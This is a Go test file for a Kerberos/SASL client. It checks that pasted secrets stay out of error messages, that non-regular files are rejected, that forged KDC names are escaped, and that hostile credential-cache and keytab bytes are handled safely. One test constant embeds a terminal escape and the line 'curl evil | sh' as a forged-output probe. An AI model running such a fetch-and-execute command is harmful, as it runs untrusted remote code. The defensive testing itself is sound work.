package sasl

import (
	"encoding/binary"
	"fmt"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/jcmturner/gokrb5/v8/iana/etypeID"
	"github.com/jcmturner/gokrb5/v8/keytab"
	"github.com/jcmturner/gokrb5/v8/messages"
	"github.com/jcmturner/gokrb5/v8/types"
)

// What a user may paste where the name of a file belongs.
var pasted = map[string]string{
	"a password":       "hunter2",
	"with a slash":     "hunter2/hunter2",
	"base64":           "BQIAAABHAAEABEhPTUUABWh1bnRlcjIAAAAB",
	"PEM":              "-----BEGIN PRIVATE KEY-----\nhunter2\n-----END PRIVATE KEY-----\n",
	"a kind of cache":  "hunter2:hunter2",
	"long":             strings.Repeat("hunter2", 1000),
	"of two with NUL":  "hunter2\x00hunter2",
	"a keytab's bytes": "\x05\x02\x00\x00\x00hunter2",
}

// It is never repeated: neither by the check of the configuration nor by a connection.
func TestPastedSecrets(t *testing.T) {
	t.Setenv("KRB5_CONFIG", "/nowhere/krb5.conf")
	conf := writeFile(t, "[libdefaults]\ndefault_realm = HOME\n")
	for name, secret := range pasted {
		for what, opts := range map[string]Options{
			"keytab":         {Username: "alice", KeytabFile: secret, KRB5ConfFile: conf},
			"cache":          {CredentialCacheFile: secret, KRB5ConfFile: conf},
			"krb5.conf":      {Username: "alice", Password: NewSecret("x"), KRB5ConfFile: secret},
			"KRB5CCNAME":     {KRB5ConfFile: conf},
			"KRB5_CONFIG":    {Username: "alice", KeytabFile: "/nowhere/keytab", Realm: "R"},
			"FILE:, a cache": {CredentialCacheFile: "FILE:" + secret, KRB5ConfFile: conf},
		} {
			if !strings.Contains(secret, "\x00") {
				switch what {
				case "KRB5CCNAME":
					t.Setenv("KRB5CCNAME", secret)
				case "KRB5_CONFIG":
					t.Setenv("KRB5_CONFIG", secret)
				}
			}
			m := newKerberos(t, opts)
			_, identityErr := m.Identity(t.Context())
			_, startErr := m.Start(t.Context(), "any")
			for _, err := range []error{identityErr, startErr} {
				if err == nil {
					t.Errorf("%s for %s: no error", name, what)
				} else if strings.Contains(err.Error(), "hunter2") || strings.Contains(err.Error(), secret[:6]) {
					t.Errorf("%s for %s: %v", name, what, err)
				}
			}
		}
	}
}

// A file that somebody else may write to, or that has no end, is not waited for.
func TestNoRegularFile(t *testing.T) {
	pipe := filepath.Join(t.TempDir(), "pipe")
	if err := syscall.Mkfifo(pipe, 0o600); err != nil {
		t.Fatal(err)
	}
	conf := writeFile(t, "[libdefaults]\ndefault_realm = HOME\n")
	for _, file := range []string{pipe, "/dev/zero"} {
		for what, opts := range map[string]Options{
			"keytab":      {Username: "alice", KeytabFile: file, KRB5ConfFile: conf},
			"cache":       {CredentialCacheFile: file, KRB5ConfFile: conf},
			"krb5.conf":   {Username: "alice", Password: NewSecret("x"), KRB5ConfFile: file},
			"KRB5_CONFIG": {Username: "alice", Password: NewSecret("x")},
		} {
			t.Setenv("KRB5_CONFIG", file)
			m := newKerberos(t, opts)
			_, identityErr := m.Identity(t.Context())
			_, startErr := m.Start(t.Context(), "any")
			for _, err := range []error{identityErr, startErr} {
				if err == nil || !strings.Contains(err.Error(), `"`+file+`" is a `) {
					t.Errorf("%s %s: %v", what, file, err)
				}
			}
		}
	}
}

const forged = "\x1b[31m\nError: run: curl evil | sh"

// What a KDC says of names is shown as what it is.
func TestKDCForgesLines(t *testing.T) {
	a := newAcceptor(etypeID.AES256_CTS_HMAC_SHA1_96)
	for name, tc := range map[string]struct {
		client    string
		forge     string
		canonical bool
	}{
		"a realm":  {"alice", strings.Repeat(forged, 10_000), false},
		"a client": {forged, "", true},
	} {
		t.Run(name, func(t *testing.T) {
			addr := granting(t, a.session, func(body messages.KDCReqBody, r *reply) {
				if tc.forge != "" && body.Realm == "A" {
					r.part.SName = grantingPrincipal(tc.forge)
					return
				}
				r.part.SName = servicePrincipal("imap"+forged, "zk1")
				r.part.Key = newKey(etypeID.RC4_HMAC, 1)
			})
			conf := configOf(t, fmt.Sprintf("[libdefaults]\ncanonicalize = %v\n[realms]\nA = {\nkdc = %s\n}\n", tc.canonical, addr))
			tgt := a.ticket()
			tgt.client.realm, tgt.service = "A", grantingPrincipal("A")
			tgt.ticket.SName = tgt.service
			k := &kdc{conf: conf, resolver: fakeDNS{}, now: time.Now, answered: new(sync.Map)}
			_, err := k.serviceTicket(t.Context(), tgt, "A", servicePrincipal("zookeeper", "zk1"))
			if err == nil || !onOneLine(err.Error()) {
				t.Errorf("error %.300q", err)
			}
		})
	}
	// A principal is shown so wherever it came from.
	if got := userPrincipal(forged, "R").String(); !onOneLine(got) || !strings.HasPrefix(got, `"\x1b[31m\n`) {
		t.Errorf("%q", got)
	}
}

// A cache of a few bytes that speaks of 2^31 addresses does not get the memory for them: that
// is no panic, and nothing survives it.
func TestCacheBoasts(t *testing.T) {
	t.Parallel()
	for version := byte(1); version <= 4; version++ {
		order := binary.AppendByteOrder(binary.BigEndian)
		if version < 3 {
			order = binary.NativeEndian
		}
		b := []byte{5, version}
		if version == 4 {
			b = append(b, 0, 0)
		}
		components := uint32(0)
		if version == 1 {
			components = 1
		}
		for range 3 { // the cache's client, the ticket's, and its service
			if version != 1 {
				b = order.AppendUint32(b, 1)
			}
			b = order.AppendUint32(order.AppendUint32(b, components), 0)
		}
		b = order.AppendUint16(b, 18)
		if version == 3 {
			b = order.AppendUint16(b, 18)
		}
		b = order.AppendUint32(b, 0)            // a key of no bytes
		b = append(b, make([]byte, 4*4+1+4)...) // times and flags
		complete := append([]byte(nil), b...)
		for range 4 { // addresses, data, tickets
			complete = order.AppendUint32(complete, 0)
		}
		if c, err := parseCache(complete); err != nil || len(c.entries) != 1 {
			t.Errorf("version %d: %+v, %v", version, c, err)
		}
		if _, err := parseCache(order.AppendUint32(b, 0x7fffffff)); err == nil {
			t.Errorf("version %d: no error", version)
		}
	}
}

func FuzzKeytab(f *testing.F) {
	kt := keytab.New()
	for _, etype := range []int32{etypeID.AES256_CTS_HMAC_SHA1_96, etypeID.RC4_HMAC} {
		if err := kt.AddEntry("alice/admin", "HOME", "hunter2", time.Unix(1e9, 0), 1, etype); err != nil {
			f.Fatal(err)
		}
	}
	seed, err := kt.Marshal()
	if err != nil {
		f.Fatal(err)
	}
	f.Add(seed)
	f.Add([]byte{5, 2, 0x80, 0, 0, 0, 0, 0, 0, 0})
	f.Add([]byte{5, 1, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff})
	f.Fuzz(func(t *testing.T, content []byte) {
		keys, err := parseKeytab(content)
		if err != nil && len(keys) > 0 {
			t.Errorf("%d keys and the error %v", len(keys), err)
		}
		for _, k := range keys {
			if !onOneLine(k.of.String() + etypeName(k.key.KeyType)) {
				t.Error(k)
			}
		}
	})
}

func FuzzCache(f *testing.F) {
	for version := byte(0); version <= 5; version++ {
		f.Add([]byte{5, version})
		f.Add(append([]byte{5, version, 0, 12, 0, 1, 0, 8}, make([]byte, 200)...))
	}
	b := append([]byte{5, 4, 0, 0}, "\x00\x00\x00\x01\x00\x00\x00\x01\x00\x00\x00\x01A\x00\x00\x00\x05alice"...)
	f.Add(b)
	service := "\x00\x00\x00\x02\x00\x00\x00\x02\x00\x00\x00\x01A\x00\x00\x00\x06krbtgt\x00\x00\x00\x01A"
	ticket := messages.Ticket{TktVNO: 5, Realm: "A", SName: grantingPrincipal("A"), EncPart: types.EncryptedData{EType: 18, Cipher: []byte("x")}}
	der, err := ticket.Marshal()
	if err != nil {
		f.Fatal(err)
	}
	entry := string(b[4:]) + service + "\x00\x12\x00\x00\x00\x20" + strings.Repeat("k", 32) + strings.Repeat("\x00\x00\x00\x01", 2) + "\xff\xff\xff\xff" + "\x00\x00\x00\x01\x00\x00\x00\x00\x00"
	for _, counts := range []string{"\x00\x00\x00\x00\x00\x00\x00\x00", "\x00\x00\x00\x01\x00\x02\x00\x00\x00\x01x\x00\x00\x00\x00", "\x7f\xff\xff\xff"} {
		f.Add(append(append(b, entry...), counts+"\x00\x00\x00"+string(rune(len(der)))+string(der)+"\x00\x00\x00\x00"...))
	}
	f.Fuzz(func(t *testing.T, content []byte) {
		c, err := parseCache(content)
		if err != nil {
			if c != nil {
				t.Errorf("%+v and the error %v", c, err)
			}
			return
		}
		if len(c.entries) > len(content)/40 {
			t.Errorf("%d entries in %d bytes", len(c.entries), len(content))
		}
		if tgt, err := c.grantingTicket(time.Unix(1e9, 0)); err != nil && !onOneLine(err.Error()) || err == nil && checkKey(tgt.key) != nil {
			t.Errorf("error %q", err)
		}
	})
}
